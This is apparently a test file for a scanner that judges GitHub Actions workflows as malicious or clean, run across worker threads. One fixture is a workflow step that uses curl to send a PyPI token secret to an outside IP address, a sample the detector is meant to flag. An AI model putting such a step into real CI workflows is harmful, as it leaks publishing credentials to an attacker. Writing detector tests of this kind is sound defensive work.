import assert from 'node:assert/strict'
import { test } from 'node:test'
import { exitCodeOf } from '../exit-codes.ts'
import { type FileText, scanTexts } from '../scan.ts'
import { scanOnThreads } from './scan-on-threads.ts'

const steals = 'on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: curl -d "${{ secrets.PYPI_TOKEN }}" http://198.51.100.7/x\n'
const honest = 'on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make test\n'
const broken = 'on: push\njobs: [\n'
const texts = [steals, honest, broken]

const manyFiles = (count: number): FileText[] =>
  Array.from({ length: count }, (_, at) => ({
    path: `r${at % 7}/.github/workflows/w${at}.yml`,
    text: texts[at % texts.length] as string,
  }))

test('on any number of threads the answer is the same as on none, in the same order', async () => {
  const files = manyFiles(40)
  const expected = await scanTexts(files)
  assert.equal(expected.verdict, 'malicious')
  for (const count of [1, 2, 3]) assert.deepEqual(await scanOnThreads(files, {}, { count }), expected, `${count} threads`)
})

test('fewer repositories than threads start no more threads than there are repositories', async () => {
  for (const files of [manyFiles(1), manyFiles(3)]) assert.deepEqual(await scanOnThreads(files, {}, { count: 4 }), await scanTexts(files))
  assert.deepEqual(await scanOnThreads([], {}, { count: 4 }), await scanTexts([]))
})

test('what the reader asks for reaches the threads', async () => {
  const files = manyFiles(6)
  const options = { persona: 'auditor', repository: 'owner/name' } as const
  const answer = await scanOnThreads(files, options, { count: 2 })
  assert.deepEqual(answer, await scanTexts(files, options))
  assert.notDeepEqual(answer.findings.length, (await scanTexts(files)).findings.length)
})

/** Takes more memory than the thread of this test has: three thousand steps, each with a script and a secret. */
const greedy = `on: push\njobs:\n  a:\n    steps:\n${Array.from(
  { length: 3000 },
  (_, at) =>
    `      - run: curl -H "Authorization: \${{ secrets.TOKEN_${at} }}" "https://api${at}.example/$HOME" | tee out${at} && test -s out${at}\n`,
).join('')}`

test('a file that takes all memory is reported, and every other file is judged', async () => {
  const files = manyFiles(4)
  const all = [...files.slice(0, 2), { path: 'r0/.github/workflows/greedy.yml', text: greedy }, ...files.slice(2)]
  const answer = await scanOnThreads(all, {}, { count: 1, memoryMegabytes: 20 })
  const expected = await scanTexts(files)
  assert.deepEqual(answer.findings, expected.findings)
  assert.deepEqual(
    answer.files.map(({ path }) => path),
    all.map(({ path }) => path),
  )
  const [problem] = answer.problems.filter(({ kind }) => kind === 'unreadable')
  assert.match(problem?.message ?? '', /memory/)
  assert.equal(problem?.path, 'r0/.github/workflows/greedy.yml')
  assert.equal(exitCodeOf({ verdict: 'clean', problems: answer.problems }), 4)
})
